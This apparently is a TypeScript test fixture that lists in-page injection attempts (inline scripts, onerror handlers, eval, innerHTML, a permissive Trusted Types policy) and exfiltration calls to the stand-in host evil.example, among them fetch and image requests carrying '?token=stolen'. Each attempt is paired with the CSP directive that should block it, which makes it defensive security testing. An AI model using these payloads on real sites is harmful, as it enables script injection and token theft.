type InjectedElement = [parent: "head" | "body", tag: string, properties: object];

/** Runs in the page, as every attack below. */
const inject = ([parent, tag, properties]: InjectedElement) =>
  document[parent].append(Object.assign(document.createElement(tag), properties));

const SCRIPTS = /^require-trusted-types-for|^script-src/;

/** Attempts of injected code, each with the directive that forbids it. */
export const PAGE_ATTACKS: [
  what: string,
  directive: RegExp,
  attack: (element: InjectedElement) => unknown,
  element?: InjectedElement,
][] = [
  [
    "an inline script",
    SCRIPTS,
    inject,
    ["head", "script", { textContent: "globalThis.owned = true" }],
  ],
  [
    "an inline handler",
    SCRIPTS,
    () => {
      const image = document.createElement("img");
      image.setAttributeNS(null, "onerror", "globalThis.owned = true");
      image.src = "/nothing.png";
      document.body.append(image);
    },
  ],
  [
    "eval",
    SCRIPTS,
    // Code evaluated by a test may call eval; code run by a timer may not.
    // oxlint-disable-next-line no-eval, no-implied-eval
    () => setTimeout(() => void globalThis.eval("globalThis.owned = true"), 0),
  ],
  [
    "a timer of text",
    SCRIPTS,
    // oxlint-disable-next-line no-eval, no-implied-eval
    () => setTimeout("globalThis.owned = true", 0),
  ],
  [
    "markup from a string",
    /^require-trusted-types-for/,
    () => {
      document.body.innerHTML = "<img src=x onerror='globalThis.owned = true'>";
    },
  ],
  ["a foreign script", SCRIPTS, inject, ["head", "script", { src: "https://evil.example/x.js" }]],
  [
    "a policy that lets strings through",
    /^trusted-types/,
    () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
      };
      trustedTypes.createPolicy("default", { createHTML: (text: string) => text });
    },
  ],
  ["a foreign call", /^connect-src/, () => fetch("https://evil.example/?token=stolen")],
  ["a foreign beacon", /^connect-src/, () => navigator.sendBeacon("https://evil.example/", "x")],
  [
    "a foreign picture",
    /^img-src/,
    inject,
    ["body", "img", { src: "https://evil.example/x.png?token=stolen" }],
  ],
  ["a foreign frame", /^frame-src/, inject, ["body", "iframe", { src: "https://evil.example/" }]],
  [
    "a form that leaves",
    /^form-action/,
    () => {
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
    },
  ],
  [
    "a foreign base address",
    /^base-uri/,
    inject,
    ["head", "base", { href: "https://evil.example/" }],
  ],
  [
    "an inline style",
    /^style-src/,
    inject,
    ["head", "style", { textContent: "body { background: url(https://evil.example/) }" }],
  ],
  [
    "a foreign worker",
    /^worker-src|^script-src|^require-trusted-types-for/,
    () => new Worker("https://evil.example/w.js"),
  ],
];
